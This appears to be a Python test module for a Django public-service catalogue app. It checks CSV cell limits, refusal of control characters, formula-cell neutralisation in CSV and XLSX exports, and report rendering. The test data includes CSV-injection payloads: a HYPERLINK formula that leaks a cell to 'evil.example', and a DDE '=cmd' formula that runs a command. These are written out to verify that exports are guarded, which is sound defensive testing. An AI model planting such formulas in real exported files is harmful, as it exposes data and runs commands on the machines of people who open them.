"""Files in and out: CSV cells limited and checked (row and column, exit 2), formula cells
neutralised in CSV and XLSX exports (and the CSV import reverses it), reports built over data
holding every control character render in every format."""

# ruff: noqa: F811 - fixtures imported from other test modules
from __future__ import annotations

import io
import json
import zipfile

import pytest
from django.db import connection
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from motcua.catalog.models import Agency, Field, Procedure
from motcua.core.cleaning import FORMULA_STARTS, spreadsheet_cell, unspreadsheet_cell
from motcua.core.csvio import CELL_LIMIT
from motcua.dossiers.models import Dossier
from tests.catalog.conftest import catalogue_state, run_export, run_import, write_csv  # noqa: F401
from tests.catalog.factories import AgencyFactory
from tests.stats.conftest import province  # noqa: F401
from tests.stats.test_report_command import run as run_report

pytestmark = pytest.mark.django_db
HEADER = "code,name,level,parent_code\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already guarded?",
    "''+two apostrophes",
    "'plain apostrophe",
]


# -- CSV import: cell limits and characters --------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "column_message"),
    [
        ("a" * 1_000_000, "at most 10000 characters in a cell, got 1000000"),
        (
            "a" * (CELL_LIMIT + 1),
            f"at most {CELL_LIMIT} characters in a cell, got {CELL_LIMIT + 1}",
        ),
        ("Sở\x00Tư pháp", "contains a NUL byte (character 3)"),
        ("Sở\x0bTư pháp", "contains the control character U+000B (character 3)"),
    ],
)
def test_a_bad_name_is_reported_with_row_and_column_and_exit_2(
    write_csv, capsys, cell, column_message
):
    before = catalogue_state()
    text = HEADER + "H1.01,Sở A,provincial_agency,\n" + f'H1.02,"{cell}",provincial_agency,\n'
    status, out, err = run_import("agencies", write_csv(text), capsys)
    assert status == 2
    assert f"row 3, column 'name': {column_message}" in err
    assert "Traceback" not in err and out == ""
    assert catalogue_state() == before


@pytest.mark.parametrize("code", ['"H1\n02"', '"H1\r02"', '"H1\t02"', "H1\x0002"])
def test_a_line_break_tab_or_nul_in_a_code_is_refused(write_csv, capsys, code):
    text = HEADER + f"{code},Sở B,provincial_agency,\n"
    status, _, err = run_import("agencies", write_csv(text), capsys)
    assert status == 2
    assert "row 2, column 'code'" in err
    assert not Agency.objects.filter(name="Sở B").exists()


def test_a_name_may_hold_a_line_break(write_csv, capsys):
    text = HEADER + 'H1.03,"Sở C\ndòng hai",provincial_agency,\n'
    status, _, err = run_import("agencies", write_csv(text), capsys)
    assert status == 0, err
    assert Agency.objects.get(code="H1.03").name == "Sở C\ndòng hai"


def test_every_error_of_a_file_is_listed(write_csv, capsys):
    text = HEADER + "H1.04,a\x00,provincial_agency,\n" + "H1.05," + "b" * 20_000 + ",x,\n"
    status, _, err = run_import("agencies", write_csv(text), capsys)
    assert status == 2
    assert "row 2, column 'name'" in err and "row 3, column 'name'" in err


def test_the_dossier_import_refuses_a_long_cell_too(write_csv, capsys):
    header = "agency_code,procedure_code,channel,received_at,outcome\n"
    text = header + "A.H98," + "9" * 200_000 + ",direct,2025-03-03T09:00:00+07:00,pending\n"
    status, _, err = run_import("dossiers", write_csv(text), capsys)
    assert status == 2
    assert "row 2, column 'procedure_code': at most" in err
    assert Dossier.objects.count() == 0


# -- formula cells ---------------------------------------------------------------------------


@given(st.text(max_size=20))
def test_the_csv_guard_is_reversed_exactly_and_never_leaves_a_formula(value):
    guarded = spreadsheet_cell(value)
    assert unspreadsheet_cell(guarded) == value
    assert not guarded.startswith(FORMULA_STARTS)


def test_agency_export_guards_formula_cells_and_imports_back_unchanged(write_csv, capsys):
    for number, name in enumerate(FORMULAS):
        AgencyFactory(code=f"F.{number:02d}", name=name)
    exported = run_export("agencies", capsys)
    for name in FORMULAS:
        if name.lstrip("'")[:1] in FORMULA_STARTS:
            assert f"'{name}" in exported or f"\"'{name}" in exported.replace('""', '"')
    cells = [line.split(",", 1)[1] for line in exported.splitlines()[1:]]
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    before = catalogue_state()
    status, out, err = run_import("agencies", write_csv(exported), capsys)
    assert status == 0, err
    assert catalogue_state()[:3] == before[:3]
    assert sorted(Agency.objects.filter(code__startswith="F.").values_list("name", flat=True)) == (
        sorted(FORMULAS)
    )


def test_procedure_export_guards_formula_names(capsys):
    from tests.catalog.factories import ProcedureFactory

    agency = AgencyFactory(code="F.P")
    procedure = ProcedureFactory(code="1.999999", name="=cmd|' /C calc'!A0")
    procedure.assignments.create(agency=agency)
    exported = run_export("procedures", capsys)
    assert "'=cmd|' /C calc'!A0" in exported


# -- reports over data holding every control character ---------------------------------------


def _controls() -> str:
    # PostgreSQL cannot store NUL in text at all; every other control character is stored.
    first = 1 if connection.vendor == "postgresql" else 0
    return "".join(chr(c) for c in [*range(first, 0x20), *range(0x7F, 0xA0)])


@pytest.fixture
def dirty_province(province):
    """The stats test province with every control character in its names and notes, and a
    formula as a name (as an older import or another system could have stored them)."""
    dirty = _controls()
    for model, name in ((Agency, "Sở{}Mẫu"), (Procedure, "Thủ tục{}"), (Field, "@Lĩnh vực{}")):
        for pk in model.objects.values_list("pk", flat=True):  # names are unique
            model.objects.filter(pk=pk).update(name=name.format(dirty) + str(pk))
    Agency.objects.filter(code="000.00.00.H98").update(name=f"Sở{dirty}Mẫu")
    Agency.objects.filter(code="000.00.01.H98").update(name='=HYPERLINK("http://x","y")')
    Dossier.objects.update(note=f"ghi chú{dirty}hết", applicant_name=f"A{dirty}")
    return province


ARGS = ["--unit", "000.00.00.H98", "--from", "2025-03-01", "--to", "2025-03-31", "--children"]


def test_the_json_report_keeps_the_characters(dirty_province):
    code, out, err = run_report(*ARGS)
    assert code == 0, err
    report = json.loads(out)
    assert report["unit"]["name"] == f"Sở{_controls()}Mẫu"
    notes = [row["note"] for row in report["late_list"]]
    assert notes and set(notes) == {f"ghi chú{_controls()}hết"}


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "pdf"])
def test_every_document_format_renders(dirty_province, tmp_path, fmt):
    target = tmp_path / f"report.{fmt}"
    code, _, err = run_report(*ARGS, "--format", fmt, "-o", str(target))
    assert code == 0, err
    data = target.read_bytes()
    if fmt == "pdf":
        assert data.startswith(b"%PDF")
        return
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    if fmt == "docx":
        text = "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs)
        assert "Mẫu" in text and "\x0b" not in text
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        values = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        formulas = [c for c in values if c.data_type == "f"]
        assert formulas == []
        assert any(c.value.startswith("=HYPERLINK") for c in values)  # shown as text
        assert any(c.value.startswith("@Lĩnh vực") for c in values)


def test_the_control_report_docx_renders(dirty_province):
    from motcua.control.documents import docx_text, render_control_report

    report = json.loads(run_report(*ARGS)[1])
    text = docx_text(render_control_report(report, place=f"Sơn{_controls()}Lâm"))
    assert "Sơn" in text and "\x0b" not in text
